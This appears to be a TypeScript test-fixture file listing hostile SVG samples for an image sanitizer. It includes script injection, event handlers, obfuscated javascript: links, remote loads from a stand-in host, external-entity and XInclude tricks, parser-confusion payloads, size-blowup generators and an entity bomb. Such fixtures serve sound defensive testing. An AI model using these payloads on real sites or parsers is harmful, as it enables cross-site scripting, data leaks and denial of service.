/** Where hostile images try to call. */
const AWAY = 'http://stranger.example';
const RUN = `document.title='ran';new Image().src='${AWAY}/ran'`;
const open = (attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 48 32" ${attributes}>`;
const image = (content: string, attributes = '') =>
  `${open(attributes)}${content}<rect id="shown" width="48" height="32" fill="#0b6e4f"/></svg>`;

/** SVGs that run something, call somebody, or say that they are something else, by what they try. */
export const HOSTILE_SVGS: Readonly<Record<string, string>> = {
  'a script': image(`<script>${RUN}</script>`),
  'a script from elsewhere': image(`<script href="${AWAY}/x.js"/><script xlink:href="${AWAY}/x.js"/>`),
  'a script in CDATA': image(`<script><![CDATA[${RUN}]]></script>`),
  'a script in capitals': image(`<SCRIPT>${RUN}</SCRIPT><Script>${RUN}</Script>`),
  'a script with a prefix': image(`<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`),
  'a script of HTML': image(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`),
  'a handler at the root': image('', `onload="${RUN}"`),
  'handlers everywhere': image(`<g onclick="${RUN}" onmouseover="${RUN}"><path d="M0 0h9v9z" onfocus="${RUN}"/></g>`),
  'a handler behind a line break': image(`<path d="M0 0h9v9z"\n\tonload\n=\n"${RUN}"/>`),
  'a handler in an animation': image(`<animate onbegin="${RUN}" attributeName="x" dur="1s"/>`),
  'an animation of a link': image(
    `<a><animate attributeName="href" values="javascript:${RUN}" /><text x="20" y="20">click</text></a>`,
  ),
  'a link that is code': image(`<a href="javascript:${RUN}" xlink:href="javascript:${RUN}"><text>x</text></a>`),
  'a link with a tab in its scheme': image(`<a href="java&#9;script:${RUN}"><text>x</text></a>`),
  'HTML within': image(
    `<foreignObject width="48" height="32"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}"></iframe></foreignObject>`,
  ),
  'HTML with a handler': image(
    `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></foreignObject>`,
  ),
  'an image from elsewhere': image(`<image href="${AWAY}/i.png" width="9" height="9"/><feImage href="${AWAY}/f"/>`),
  'an image of data': image(`<image href="data:image/svg+xml,%3Csvg onload='${RUN}'/%3E" width="9" height="9"/>`),
  'a use from elsewhere': image(`<use href="${AWAY}/x.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/>`),
  'a style sheet that imports': image(`<style>@import url(${AWAY}/x.css); * { fill: url(${AWAY}/f#a) }</style>`),
  'a style sheet by instruction': `<?xml-stylesheet href="${AWAY}/x.css" type="text/css"?>${image('')}`,
  'a style sheet by XSLT': `<?xml-stylesheet type="text/xsl" href="#t"?>${image('')}`,
  'a style attribute that loads': image(
    `<rect width="9" height="9" style="fill:url(${AWAY}/f#a);cursor:url(${AWAY}/c)"/>`,
  ),
  'a fill from elsewhere': image(`<rect width="9" height="9" fill="url(${AWAY}/f#a)" filter="url(${AWAY}/f#b)"/>`),
  'a fill with a CSS escape': image(`<rect width="9" height="9" fill="u\\72l(${AWAY}/f#a)"/>`),
  'a fill with a comment': image(`<rect width="9" height="9" fill="url/**/(${AWAY}/f#a)"/>`),
  'an image set': image(`<rect width="9" height="9" mask="image-set('${AWAY}/m' 1x)"/>`),
  'a gradient from elsewhere': image(`<linearGradient id="a" href="${AWAY}/g#a"/><rect fill="url(#a)"/>`),
  'a base address': image(`<rect width="9" height="9"/>`, `xml:base="${AWAY}/"`),
  'an entity': `<!DOCTYPE svg [<!ENTITY x "${RUN}">]>${image('<script>&x;</script><text>&x;</text>')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "${AWAY}/x">]>${image('<text>&x;</text>')}`,
  'a document type from elsewhere': `<!DOCTYPE svg SYSTEM "${AWAY}/x.dtd">${image('')}`,
  'a comment that never ends well': image(`<!--><script>${RUN}</script>-->`),
  'a title that ends early': image(`<title><![CDATA[</title><script>${RUN}</script>]]></title>`),
  'text that is markup': image(`<text>&lt;script&gt;${RUN}&lt;/script&gt;</text>`),
  'an attribute that ends early': image(`<path d='M0 0"&gt;&lt;script&gt;${RUN}&lt;/script&gt;'/>`),
  'an inclusion': image(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${AWAY}/x"/>`),
  'a frame, an object and a film': image(
    `<iframe src="${AWAY}"/><object data="${AWAY}"/><embed src="${AWAY}"/><video src="${AWAY}"/>`,
  ),
  'a handler of SVG Tiny': image(`<handler type="application/ecmascript">${RUN}</handler><listener event="load"/>`),
};

/** SVGs that would cost more than their length, by what they grow with. */
export const GROWING_SVGS: Readonly<Record<string, (size: number) => string>> = {
  'elements in elements': (size) => `${open()}${'<g>'.repeat(size / 24)}</svg>`,
  'elements that are closed but never opened': (size) =>
    `${open()}${'<g>'.repeat(size / 48)}${'</x>'.repeat(size / 48)}</svg>`,
  attributes: (size) =>
    `${open()}<path ${Array.from({ length: size / 12 }, (_, at) => `a${at}="${at}"`).join(' ')}/></svg>`,
  'one long path': (size) => image(`<path d="${'0'.repeat(size)}"/>`),
  'one long path of brackets': (size) => image(`<path transform="${'scale('.repeat(size / 6)}"/>`),
  'one long style': (size) => image(`<path style="${'fill:!;'.repeat(size / 7)}" d="M0 0"/>`),
  blanks: (size) => image(`<path d="M0 0${' '.repeat(size)}x"/>`),
  entities: (size) => image(`<text>${'&amp;'.repeat(size / 5)}</text>`),
  'an open comment': (size) => `${open()}${'<!--'.repeat(size / 24)}`,
  'open quotes': (size) => `${open()}<path d="${'<'.repeat(size / 24)}`,
};

/** Entities that grow tenfold nine times over. */
export const ENTITY_BOMB = `<!DOCTYPE svg [<!ENTITY a0 "boom">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`,
).join('')}]>${image('<text>&a9;</text>')}`;
